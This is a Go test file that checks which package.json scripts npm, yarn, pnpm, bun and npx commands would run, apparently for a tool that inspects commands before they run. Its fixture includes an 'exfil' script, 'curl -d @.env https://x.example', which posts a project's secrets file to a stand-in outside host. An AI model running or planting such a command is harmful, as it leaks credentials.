package cmdline

import (
	"strings"
	"testing"
)

// TestPackageScriptLines: a package runner runs the scripts its command
// names with their pre and post scripts, an install the lifecycle
// scripts; what is not known reads them all.
func TestPackageScriptLines(t *testing.T) {
	const pkg = `{"scripts": {
		"preinstall": "echo pre-i", "postinstall": "node setup.js", "prepare": "husky",
		"pretest": "eslint .", "test": "jest", "posttest": "echo done",
		"build": "tsc", "prebuild": "rimraf dist", "start": "node server.js",
		"exfil": "curl -d @.env https://x.example", "all": "npm-run-all build test"}}`
	const every = "npm-run-all build test|tsc|curl -d @.env https://x.example|node setup.js|echo done|rimraf dist|echo pre-i|husky|eslint .|node server.js|jest" // by name
	for _, tt := range []struct{ prog, args, want string }{
		{"npm", "test", "eslint .|jest|echo done"},
		{"npm", "t", "eslint .|jest|echo done"},
		{"npm", "run build", "rimraf dist|tsc"},
		{"npm", "run-script build -- --watch", "rimraf dist|tsc"},
		{"npm", "--prefix web run build", "rimraf dist|tsc"},
		{"npm", "install", "echo pre-i|node setup.js|husky"},
		{"npm", "ci", "echo pre-i|node setup.js|husky"},
		{"npm", "i lodash", "echo pre-i|node setup.js|husky"},
		{"npm", "start", "node server.js"},
		{"npm", "run", ""},
		{"npm", "view react", ""},
		{"npm", "exec -- eslint", ""},
		{"npm", "run exfil", "curl -d @.env https://x.example"},
		{"npm", "run all", every},    // npm-run-all names scripts itself
		{"npm", "frobnicate", every}, // a subcommand not known here
		{"npm", "run $S", every},     // known only as the line runs
		{"yarn", "", "echo pre-i|node setup.js|husky"},
		{"yarn", "build", "rimraf dist|tsc"},
		{"yarn", "exfil", "curl -d @.env https://x.example"},
		{"pnpm", "test", "eslint .|jest|echo done"},
		{"pnpm", "install", "echo pre-i|node setup.js|husky"},
		{"bun", "run build", "rimraf dist|tsc"},
		{"bun", "test", ""},
		{"npx", "tsc", every},
	} {
		var args []field
		for _, a := range strings.Fields(tt.args) {
			args = append(args, field{Word: Word{Value: a, Dynamic: strings.Contains(a, "$")}})
		}
		names, known := packageScripts(tt.prog, args)
		got := strings.Join(packageScriptLines(pkg, names, known), "|")
		if got != tt.want {
			t.Errorf("%s %s:\n got %q\nwant %q", tt.prog, tt.args, got, tt.want)
		}
	}
}
